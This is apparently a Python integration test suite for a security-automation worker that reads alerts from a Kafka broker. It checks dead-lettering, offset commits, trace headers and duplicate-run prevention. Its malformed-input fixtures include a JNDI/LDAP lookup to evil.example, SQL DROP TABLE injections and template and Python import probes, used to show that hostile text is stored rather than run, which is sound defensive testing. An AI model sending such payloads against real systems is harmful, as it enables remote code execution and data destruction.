"""The worker on a real Kafka-protocol broker (tansu): alerts become one run per matching
playbook, every bad message is dead-lettered byte for byte with its reason while good ones keep
flowing, offsets are committed once outcomes are durable, trace context comes from the headers,
and a redelivered message starts no second run."""

from __future__ import annotations

import asyncio
import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from soar.config import IngestSettings, KafkaSettings
from soar.engine import Engine
from soar.ingest.dead_letters import ENVELOPE_HEADER
from soar.ingest.worker import Worker
from soar.models.audit import AuditFilter
from soar.store import RunFilter, SqliteStore
from tests.integration.ingest.kafka_tools import (
    MAX_BYTES,
    TIME,
    committed_offsets,
    end_offsets,
    good,
    playbooks,
    produce,
    read_all,
    run_worker_until,
)
from tests.kafka_broker import KafkaBroker

pytestmark = [pytest.mark.kafka, pytest.mark.slow]

TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736"
TRACEPARENT = f"00-{TRACE_ID}-00f067aa0ba902b7-01"

BAD: dict[str, bytes] = {
    "not_json": b"this is not json {",
    "not_utf8": b'{"title": "\xff\xfe bad bytes", "severity": "high"}',
    "too_large": json.dumps({"title": "x" * (MAX_BYTES + 10), "severity": "low"}).encode(),
    "too_deep": b"[" * 10_000 + b"]" * 10_000,
    "two_mib": b'{"title": "' + b"y" * 2 * 1_048_576 + b'", "severity": "low"}',
    "wrong_types": json.dumps({"title": 5, "severity": ["high"], "time": TIME}).encode(),
    "injection": json.dumps(
        {"title": "x", "severity": "${jndi:ldap://evil.example/a}", "time": "'; DROP TABLE x;--"}
    ).encode(),
    "not_an_object": b"42",
    "empty": b"",
}
# an attacker's text in a valid alert is data: it runs, and is kept verbatim
HOSTILE_TITLE = "{{ 7*7 }} ${jndi:ldap://evil.example/a} __import__('os') '; DROP TABLE runs;--"


async def test_alerts_become_runs_and_bad_messages_dead_letters(
    kafka_broker: KafkaBroker, tmp_path: Path
) -> None:
    bootstrap = kafka_broker.bootstrap
    name = uuid.uuid4().hex[:8]
    topic, dead = f"alerts-{name}", f"dead-{name}"
    kafka = KafkaSettings(
        bootstrap_servers=bootstrap,
        topics=[topic],
        group=f"soar-{name}",
        dead_letter_topic=dead,
        commit_interval=0.1,
        session_timeout_ms=6000,
        heartbeat_interval_ms=500,
    )
    messages: list[tuple[bytes, list[Any]]] = []
    for n in range(30):
        messages.append((good(n, "high" if n % 3 == 0 else "medium"), []))
        if n < len(BAD):
            messages.append((list(BAD.values())[n], [("origin", b"test")]))
    messages.append((good(100), [("traceparent", TRACEPARENT.encode())]))
    hostile = json.dumps(
        {"title": HOSTILE_TITLE, "severity": "low", "id": "hostile", "time": TIME}
    ).encode()
    messages.append((hostile, []))
    await produce(bootstrap, topic, messages)
    good_count = 32
    high = len([n for n in range(30) if n % 3 == 0])

    registry, loaded = playbooks()
    store = await SqliteStore.open(tmp_path / "soar.db")
    try:
        engine = Engine(store, registry, loaded)

        async def all_taken(worker: Worker) -> bool:
            return worker.consumed + worker.dead_lettered >= len(messages)

        worker = await run_worker_until(engine, kafka, all_taken, within=60)
        await engine.wait_idle()
        runs = await store.list_runs(RunFilter(limit=1000))
        # one run per matching playbook per alert, each finished
        by_playbook = {
            p: [r for r in runs if r.playbook_id == p] for p in ("note-every-alert", "high-only")
        }
        assert len(by_playbook["note-every-alert"]) == good_count
        assert len(by_playbook["high-only"]) == high
        assert {r.status.value for r in runs} == {"completed"}
        titles = {r.alert["title"] for r in runs if isinstance(r.alert, dict)}
        assert HOSTILE_TITLE in titles
        traced = [r for r in runs if isinstance(r.alert, dict) and r.alert.get("id") == "a-100"]
        assert [r.trace[3:35] if r.trace else None for r in traced] == [TRACE_ID]
        # every bad message, byte for byte, with its reason and where it came from
        letters = await read_all(bootstrap, dead, len(BAD))
        assert sorted(r.value for r in letters) == sorted(BAD.values())
        codes = {}
        for letter in letters:
            headers = dict(letter.headers)
            envelope = json.loads(headers[ENVELOPE_HEADER])
            assert envelope["source"]["topic"] == topic
            assert headers["soar-error-code"].decode() == envelope["error"]["code"]
            assert headers["origin"] == b"test"  # the message's own headers ride along
            codes[letter.value] = envelope["error"]["code"]
        assert codes[BAD["not_json"]] == "not_json"
        assert codes[BAD["not_utf8"]] == "not_utf8"
        assert codes[BAD["too_large"]] == "too_large"
        assert codes[BAD["too_deep"]] == "too_deep"
        assert codes[BAD["two_mib"]] == "too_large"
        assert codes[BAD["not_an_object"]] == "not_an_object"
        assert codes[BAD["wrong_types"]] in {"invalid_field", "unknown_format"}
        assert codes[BAD["injection"]] in {"invalid_field", "unknown_format"}
        assert worker.dead_lettered == len(BAD)
        rejected = await store.query_audit(AuditFilter(kind="alert.rejected", limit=100))
        assert len(rejected) == len(BAD)
        accepted = await store.query_audit(AuditFilter(kind="alert.accepted", limit=100))
        assert len(accepted) == good_count
        # every offset is committed: a restart reads nothing again
        committed = await committed_offsets(bootstrap, kafka.group, topic)
        ends = await end_offsets(bootstrap, topic)
        assert committed == ends

        # delivered again (to a new group, which reads from the start, as a worker does after
        # a crash before its commit): the runs are found, none is started twice
        again_kafka = kafka.model_copy(update={"group": f"soar-{name}-again"})
        second = await run_worker_until(engine, again_kafka, all_taken, within=60)
        await engine.wait_idle()
        assert second.consumed == good_count
        again = await store.list_runs(RunFilter(limit=1000))
        assert sorted(r.id for r in again) == sorted(r.id for r in runs)
        await engine.stop()
    finally:
        await store.close()


async def test_a_worker_whose_store_is_gone_commits_nothing_and_still_stops(
    kafka_broker: KafkaBroker, tmp_path: Path
) -> None:
    """Messages whose runs cannot be recorded are retried, never committed; a stop gives up
    on them after `drain_timeout`, and they are read again by whoever comes next."""
    name = uuid.uuid4().hex[:8]
    topic = f"alerts-{name}"
    kafka = KafkaSettings(
        bootstrap_servers=kafka_broker.bootstrap,
        topics=[topic],
        group=f"soar-{name}",
        dead_letter_topic=f"dead-{name}",
        commit_interval=0.1,
        drain_timeout=0.5,
        session_timeout_ms=6000,
        heartbeat_interval_ms=500,
    )
    await produce(kafka_broker.bootstrap, topic, [(good(n), []) for n in range(3)])
    registry, loaded = playbooks()
    store = await SqliteStore.open(tmp_path / "soar.db")
    await store.close()  # every write now fails: the store is gone
    engine = Engine(store, registry, loaded)
    worker = Worker(engine, kafka, IngestSettings())
    stop = asyncio.Event()
    task = asyncio.create_task(worker.run(stop))
    async with asyncio.timeout(60):
        while worker.offsets.in_flight() < 3:
            assert not task.done(), task.exception()
            await asyncio.sleep(0.05)
    stop.set()
    async with asyncio.timeout(10):
        await task
    assert worker.consumed == 0
    assert await committed_offsets(kafka_broker.bootstrap, kafka.group, topic) == {}
